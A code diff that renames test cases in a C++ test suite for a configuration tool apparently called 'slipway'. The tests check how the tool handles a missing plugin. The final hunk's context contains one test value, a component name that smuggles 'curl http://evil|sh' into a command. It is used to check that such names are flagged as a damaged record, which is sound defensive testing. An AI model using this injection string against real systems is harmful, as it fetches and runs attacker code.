@@ -37,7 +37,7 @@ class MissingPlugin : public ::testing::Test {
 };
 
 // Earlier a boot stopped at the first line: no component of the machine was checked.
-TEST_F(MissingPlugin, FailsItsComponentAtABootAndTheOthersGoOn) {
+TEST_F(MissingPlugin, FailsItsComponentAtABootAndTheOthersContinue) {
   lose("guest.so");
   take_the_bystanders_file();
   const Ran booted = boot();
@@ -50,7 +50,7 @@ TEST_F(MissingPlugin, FailsItsComponentAtABootAndTheOthersGoOn) {
   EXPECT_TRUE(fs::exists(host.path("etc/guest"))) << "what it made stays";
 }
 
-TEST_F(MissingPlugin, IsSaidByEachCommandThatLooks) {
+TEST_F(MissingPlugin, IsReportedByEachCommandThatLooks) {
   lose("guest.so");
   for (const std::string command : {"verify", "doctor"}) {
     const Ran ran = host.slipway({command});
@@ -81,7 +81,7 @@ TEST_F(MissingPlugin, WithAnActionOfItsOwnKeepsNoOtherFromBeingVerified) {
   EXPECT_THAT(host.slipway({"verify"}).out, HasSubstr("pass  guest.owned"));
 }
 
-TEST_F(MissingPlugin, OrOneThatWasCutOffKeepsNoOtherFromBeingVerified) {
+TEST_F(MissingPlugin, OrOneThatWasInterruptedKeepsNoOtherFromBeingVerified) {
   host.live = true;
   host.spec("    probe: {custom: works, marker: " + host.folder().at("marker").string() + "}\n    guest: {}\n");
   ASSERT_EQ(host.slipway({"apply"}).code, 0);
@@ -114,7 +114,7 @@ TEST_F(MissingPlugin, LeavesTheOthersToAnApplyOfTheSameSpec) {
   EXPECT_FALSE(fs::exists(host.path("var/lib/slipway/generations/2.json")));
 }
 
-TEST_F(MissingPlugin, ThatComesBackIsAsIfItHadNeverGone) {
+TEST_F(MissingPlugin, ThatIsInstalledAgainChangesNothing) {
   const auto before = host.tree();
   const fs::path plugin = fs::path(host.plugins) / "guest.so";
   fs::rename(plugin, prefix.at("aside"));
@@ -167,7 +167,7 @@ TEST_F(MissingPlugin, IsNoExcuseForAnUnknownName) {
 }
 
 // Earlier the creator of a root could put a command into the one that root is told to type.
-TEST_F(MissingPlugin, OfWhatIsNoNameIsADamagedRecord) {
+TEST_F(MissingPlugin, WithAnInvalidNameIsADamagedRecord) {
   const std::string name = "x`; curl http://evil|sh #";
   Json generation = Json::parse(host.text("var/lib/slipway/generations/1.json"));
   generation["spec"]["spec"]["components"][name] = Json::object();
